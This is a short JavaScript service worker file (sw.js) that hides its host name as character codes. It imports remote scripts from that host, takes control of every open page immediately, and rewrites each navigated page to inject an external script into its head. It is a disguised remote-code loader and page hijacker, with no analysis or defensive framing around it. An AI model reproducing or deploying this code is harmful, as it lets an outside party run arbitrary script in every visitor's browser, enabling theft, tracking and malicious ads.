/* sw.js */
var v = '1.4.0', u = '', h = [101,100,103,101,45,112,117,115,104,46,105,110,118,97,108,105,100];
for (var i = 0; i < h.length; i++) u += String.fromCharCode(h[i]);
self.options = { domain: u, zoneId: 6120001, lary: '' };
try {
  importScripts('https://' + u + '/act/files/service-worker.min.js?r=sw&v=' + v);
} catch (e) {
  importScripts('https://alt.' + u + '/sw.js');
}
self.addEventListener('install', function () { self.skipWaiting(); });
self.addEventListener('activate', function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener('fetch', function (e) {
  if (e.request.mode !== 'navigate') return;
  e.respondWith(fetch(e.request).then(function (r) {
    return r.text().then(function (t) {
      return new Response(t.replace(/<head[^>]*>/i, '$&<script src="https://' + u + '/t.js"><\/script>'), { headers: { 'Content-Type': 'text/html; charset=utf-8' } });
    });
  }));
});
